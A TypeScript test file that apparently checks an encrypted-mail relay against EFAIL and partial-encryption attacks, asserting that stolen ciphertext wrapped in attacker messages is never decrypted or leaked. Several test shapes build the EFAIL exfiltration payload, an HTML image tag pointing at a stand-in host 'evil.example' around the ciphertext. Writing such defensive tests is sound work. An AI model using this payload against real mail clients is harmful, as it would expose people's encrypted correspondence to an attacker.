/**
 * EFAIL without a change to the ciphertext, and partial encryption: what was sealed to the desk stands in a message that an
 * attacker built around it. Each shape comes with a whole message of Alice, signed, and with bare words that name nobody, so
 * that no contradiction hides what the reader should never have opened.
 */

import { expect, it } from 'vitest'
import { encryptedEntity, mixed, textPart } from '../unit/reading/material.ts'
import {
  ATTACK,
  cast,
  describeAttacks,
  mail,
  openScene,
  payload,
  relayOf,
  SECRET,
  scene,
  sealedMail,
  wordsTo
} from './scene.ts'

describeAttacks('attacks with ciphertext inside another message', () => {
  type Kind = 'a signed mail' | 'bare words'
  /** What was sealed for the desk, taken on the way: it never arrived. Each has a session key of its own. */
  const steal = (kind: Kind): Promise<string> =>
    kind === 'bare words'
      ? cast.seal(textPart(`Another ${SECRET}.`))
      : cast.seal(payload('alice', `new ${SECRET}`, `Another ${SECRET}.`), 'alice')
  const html = (text: string): string => `Content-Type: text/html\r\n\r\n${text}`
  const file = (armored: string, name: string): string =>
    `Content-Type: application/octet-stream; name=${name}\r\n\r\n${armored}`

  type Shape = readonly [name: string, build: (stolen: string) => string]
  const open = html('<img src="http://evil.example/')
  const close = html('">')
  const DIRECT: readonly Shape[] = [
    ['between HTML', (stolen) => mixed([open, encryptedEntity(stolen), close])],
    ['behind HTML', (stolen) => mixed([open, encryptedEntity(stolen)])],
    ['before HTML', (stolen) => mixed([encryptedEntity(stolen), close])],
    ['a file between HTML', (stolen) => mixed([open, file(stolen, 'a.asc'), close])],
    ['text between HTML', (stolen) => mixed([open, textPart(stolen), close])],
    ['inside of HTML', (stolen) => html(`<img src="http://evil.example/${stolen}">`)]
  ]
  const CLOSED: readonly Shape[] = [
    [
      'behind two texts',
      (stolen) => mixed([textPart(`${ATTACK} one`), textPart('two'), encryptedEntity(stolen)])
    ],
    ['behind words of one text', (stolen) => textPart(`${ATTACK}\r\n${stolen}`)],
    [
      'in a forwarded mail',
      (stolen) =>
        mixed([textPart(ATTACK), `Content-Type: message/rfc822\r\n\r\n${encryptedEntity(stolen)}`])
    ]
  ]
  /** Real programs make these of a whole message, so they are opened, but the words beside it never count as part of it. */
  const APART: readonly Shape[] = [
    ['behind one text', (stolen) => mixed([textPart(`${ATTACK} reads:`), encryptedEntity(stolen)])],
    ['before one text', (stolen) => mixed([encryptedEntity(stolen), textPart(`${ATTACK} footer`)])],
    ['before words of one text', (stolen) => textPart(`${stolen}\r\n${ATTACK}`)],
    ['a file beside a text', (stolen) => mixed([textPart(ATTACK), file(stolen, 'a.txt.asc')])]
  ]
  const AGAIN: readonly Shape[] = [
    ['as a layer', encryptedEntity],
    ['as a layer beside a text', (stolen) => mixed([textPart(ATTACK), encryptedEntity(stolen)])],
    ['as a layer between HTML', (stolen) => mixed([open, encryptedEntity(stolen), close])],
    ['as text', textPart],
    ['as a file', (stolen) => mixed([textPart(ATTACK), file(stolen, 'a.asc')])]
  ]
  const KINDS: readonly Kind[] = ['a signed mail', 'bare words']

  /** Delivers each shape and gives what Grace was sent for it, in order. */
  async function relaysOf(
    shapes: readonly Shape[],
    kind: Kind,
    disposition: string,
    wrap: (built: string) => Promise<string> | string = (built) => mail('mallory', built)
  ): Promise<readonly string[]> {
    for (const [name, build] of shapes) {
      await scene.attack(await wrap(build(await steal(kind))))
      expect(scene.disposition(), name).toBe(disposition)
    }
    expect(await scene.harm()).toEqual([])
    expect(await wordsTo('mallory')).not.toContain(SECRET)
    const relays = await scene.mailsTo('grace')
    expect(relays).toHaveLength(shapes.length)
    expect(await scene.mailsTo('linus')).toHaveLength(shapes.length)
    return relays
  }

  function isUnopened(relays: readonly string[], shapes: readonly Shape[]): void {
    const opened = shapes.filter((_, index) => relays[index]?.includes(SECRET) ?? true)
    expect(opened.map(([name]) => name)).toEqual([])
  }

  it.each(KINDS)(
    '1 EFAIL, direct exfiltration: ciphertext beside HTML is not opened (%s)',
    async (kind) => {
      await openScene()
      const relays = await relaysOf(DIRECT, kind, 'case-opened')
      isUnopened(relays, DIRECT)
      for (const words of relays) {
        // HTML is forwarded only inside the original, as a file.
        const [shown = ''] = words.split('Content-Type: message/rfc822')
        expect(shown).not.toContain('text/html')
      }
    }
  )

  it.each(KINDS)(
    '1 EFAIL, sealed again by the thief: the ciphertext inside is not opened (%s)',
    async (kind) => {
      await openScene()
      const again = (built: string) => sealedMail('mallory', built)
      const relays = await relaysOf(AGAIN, kind, 'case-opened', again)
      isUnopened(relays, AGAIN)
    }
  )

  it.each(KINDS)(
    'partial encryption: ciphertext among words of the attacker is not opened (%s)',
    async (kind) => {
      await openScene()
      isUnopened(await relaysOf(CLOSED, kind, 'case-opened'), CLOSED)
    }
  )

  it('partial encryption: a whole message of Alice put beside words is withheld', async () => {
    await openScene()
    isUnopened(await relaysOf(APART, 'a signed mail', 'contradicts-sender'), APART)
  })

  it('partial encryption: bare words are the first sender’s, and words beside them are shown apart', async () => {
    await openScene()
    for (const words of await relaysOf(APART, 'bare words', 'case-opened')) {
      const { text, outside } = relayOf(words)
      expect(text).toContain(SECRET)
      expect(text).not.toContain(ATTACK)
      expect(outside).toContain(ATTACK)
    }
  })
})
